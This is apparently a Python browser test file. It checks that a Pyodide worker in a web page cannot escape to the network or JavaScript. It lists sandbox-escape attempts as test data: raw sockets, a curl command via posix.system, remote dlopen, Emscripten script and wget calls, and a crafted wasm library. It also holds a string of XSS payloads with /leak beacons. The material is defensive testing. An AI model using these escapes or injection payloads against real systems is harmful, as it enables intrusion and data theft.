"""After the start Python has no way out of its worker, even on a host that sends no content policy."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, Worker, expect

from tests.browser.test_runtime import BREAK_EVEN, wake, workers
from tests.browser.test_watch import Lax
from tools.serve import Server

# Lets the test run a line of Python; its answer is whether that raised nothing, and what it said. The interpreter is
# whole, since what it lacks at first leads nowhere anyhow.
DOOR = """
globalThis.line = (text) => [python.run(text), said.splice(0).join('\\n')];
const usual = wake;
wake = (about) => usual({ ...about, whole: true });
"""
NO_MODULE = [
    "js", "pyodide", "pyodide_js", "pyodide.http", "pyodide.ffi", "_pyodide", "_pyodide_core", "micropip",
    "urllib.request", "http.client", "socket", "ssl", "asyncio", "subprocess", "ctypes", "webbrowser", "smtplib",
]  # fmt: skip
ATTEMPTS = {
    "a bare socket": "import _socket; _socket.socket().connect(('127.0.0.1', {port}))",
    "a datagram": "import _socket; _socket.socket(2, 2).sendto(b'x', ('127.0.0.1', {port}))",
    "a name service": "import _socket; _socket.gethostbyname('other.example')",
    "a command": "import posix; assert posix.system('curl {url}') == 0",
    "a file by its address": "open('{url}')",
    "a library by its address": "import _ctypes; _ctypes.dlopen('{url}x.so', 0)",
    "a package by its address": "import sys; sys.path.insert(0, '{url}x.zip'); import away",
    "a file of Pyodide's": "import _ctypes; _ctypes.dlopen('pyodide-lock.json', 0)",
}
C_FUNCTION = (
    "import _ctypes; f = _ctypes.dlsym(_ctypes.dlopen(None, 0), '{name}'); _ctypes.call_function(f, {arguments})"
)
FROM_C = {
    "JavaScript": ("emscripten_run_script", "(b'globalThis.out = 1; import(\"{url}x.js\")',)"),
    "JavaScript with an answer": ("emscripten_run_script_int", "(b'globalThis.out = 1',)"),
    "JavaScript later": ("emscripten_async_run_script", "(b'globalThis.out = 1', 0)"),
    "a download": ("emscripten_async_wget", "(b'{url}x', b'/tmp/x', 0, 0)"),
    "a web socket": ("emscripten_websocket_new", "(0,)"),
}


def section(kind: int, content: bytes) -> bytes:
    return bytes([kind, len(content)]) + content


def named(name: str) -> bytes:
    return bytes([len(name)]) + name.encode()


def library() -> bytes:
    """A library for Pyodide, as its toolchain would make it, whose text is run as JavaScript when it is loaded."""
    text = b"()<::>{}, globalThis.out = 1\0"
    place = bytes([len(text), 0, 0, 0])
    return b"".join(
        [
            b"\0asm\1\0\0\0",
            section(0, named("dylink.0") + bytes([1, len(place)]) + place),
            section(
                2,
                b"\2"
                + named("env")
                + named("memory")
                + b"\2\0\0"
                + named("env")
                + named("__memory_base")
                + b"\3\x7f\0",
            ),
            section(6, b"\1\x7f\0\x41\0\x0b"),
            section(7, b"\1" + named("__em_js__f") + b"\3\1"),
            section(11, b"\1\0\x23\0\x0b" + bytes([len(text)]) + text),
        ]
    )


@pytest.fixture(scope="module")
def other(site: Path) -> Iterator[Server]:
    """A host that nobody may ask for anything."""
    with Server(site) as host:
        yield host


@contextmanager
def ajar(site: Path, browser: Browser) -> Iterator[Page]:
    """A page on a host without a policy whose Python has started and takes lines of ours."""

    def door(route: Route) -> None:
        reply = route.fetch()
        route.fulfill(response=reply, body=reply.text() + DOOR)

    with Lax(site, base="/course/") as host, browser.new_context(base_url=host.url) as context:
        context.route("**/runtime/worker.*.js", door)
        page = context.new_page()
        page.goto(BREAK_EVEN)
        wake(page)
        page.wait_for_load_state("networkidle")
        yield page


@pytest.fixture(scope="module")
def inside(site: Path, browser: Browser) -> Iterator[tuple[Worker, list[str]]]:
    """The worker of a page whose Python has started, and what has been asked of any host since."""
    with ajar(site, browser) as page:
        asked: list[str] = []
        page.context.on("request", lambda request: asked.append(request.url))
        (worker,) = workers(page)
        assert worker.evaluate("line('raise KeyError(6 * 7)')")[1].endswith("KeyError: 42")
        yield worker, asked
        # Neither has it died of what was tried.
        page.locator("[name=calls_per_day]").fill("9000")
        expect(page.locator("[data-answer]")).to_contain_text("9,000 calls a day")


def line(worker: Worker, text: str) -> tuple[bool, str]:
    worked, said = worker.evaluate("(text) => line(text)", text)
    return bool(worked), said


def quiet(worker: Worker, asked: list[str], other: Server) -> None:
    """Nothing was asked, neither now nor when the worker comes to what it has put off."""
    worker.evaluate("() => new Promise((done) => setTimeout(done, 50))")
    assert asked == []
    assert other.log == []
    assert worker.evaluate("typeof out") == "undefined"


def test_no_module_leads_to_javascript_or_to_the_network(inside: tuple[Worker, list[str]], other: Server) -> None:
    worker, asked = inside
    for name in NO_MODULE:
        worked, said = line(worker, f"import {name}")
        assert not worked, name
        assert "ModuleNotFoundError" in said or "ImportError" in said, said
    quiet(worker, asked, other)


def test_what_python_itself_could_open_stays_shut(inside: tuple[Worker, list[str]], other: Server) -> None:
    worker, asked = inside
    for name, text in ATTEMPTS.items():
        worked, _ = line(worker, text.format(port=other.port, url=other.url))
        assert not worked, name
    quiet(worker, asked, other)


@pytest.mark.parametrize("name", FROM_C)
def test_what_its_machine_could_ask_of_the_browser_comes_to_nothing(
    inside: tuple[Worker, list[str]], other: Server, name: str
) -> None:
    worker, asked = inside
    function, arguments = FROM_C[name]
    text = C_FUNCTION.replace("{name}", function).replace("{arguments}", arguments.replace("{url}", other.url))
    line(worker, text)
    quiet(worker, asked, other)


@pytest.mark.parametrize("flag", [0, 1, 2, 0x101, 0x102])
def test_no_library_brings_javascript_of_its_own(inside: tuple[Worker, list[str]], other: Server, flag: int) -> None:
    worker, asked = inside
    assert line(worker, f"open('/tmp/evil.so', 'wb').write({library()!r})")[0]
    for text in (
        f"import _ctypes; _ctypes.dlopen('/tmp/evil.so', {flag})",
        "import sys; sys.path.insert(0, '/tmp'); import evil",
    ):
        worked, _ = line(worker, text)
        assert not worked
    quiet(worker, asked, other)


EVIL = (
    "<img src=x onerror=globalThis.pwned=1><svg onload=globalThis.pwned=1><image href=/leak /></svg>"
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><script>globalThis.pwned=1</script>"
    "<a id=evil href='javascript:globalThis.pwned=1' data-site='javascript:globalThis.pwned=1'>x</a>"
    "<details open ontoggle=globalThis.pwned=1><summary>x</summary></details><link rel=stylesheet href=/leak>"
    "<video src=/leak autoplay></video><b style='background: url(/leak)'>b</b>"
    "<form action=/leak><button id=send>x</button></form>"
)


def test_what_python_writes_cannot_run_in_the_page(site: Path, browser: Browser) -> None:
    """On a host without a content policy, by a Python that no longer keeps to the templates."""
    with ajar(site, browser) as page:
        (worker,) = workers(page)
        state = '<div data-slot="state" data-state="live" hidden></div>'
        html = f'{state}<div data-slot="answer"><p data-answer>{EVIL}</p></div>'
        assert line(worker, f"import page; page.answer = lambda slug, query: {html!r}")[0]
        asked: list[str] = []
        page.context.on("request", lambda request: asked.append(request.url))
        page.locator("[name=calls_per_day]").fill("9000")
        expect(page.locator("#evil")).to_be_visible()
        page.locator("#evil").click()
        page.get_by_text("x", exact=True).last.click()
        page.wait_for_timeout(300)
        assert page.evaluate("typeof pwned") == "undefined"
        assert asked == []


def test_no_name_of_javascript_that_leads_out_is_left(inside: tuple[Worker, list[str]], other: Server) -> None:
    worker, asked = inside
    tries = {
        "fetch": f"fetch('{other.url}')",
        "XMLHttpRequest": "new XMLHttpRequest()",
        "WebSocket": f"new WebSocket('ws://127.0.0.1:{other.port}/')",
        "EventSource": f"new EventSource('{other.url}')",
        "importScripts": f"importScripts('{other.url}x.js')",
        "Worker": f"new Worker('{other.url}x.js')",
    }
    for name, text in tries.items():
        refused = worker.evaluate(f"() => {{ try {{ {text}; }} catch (error) {{ return error.name; }} }}")
        assert refused == "ReferenceError", name
    quiet(worker, asked, other)
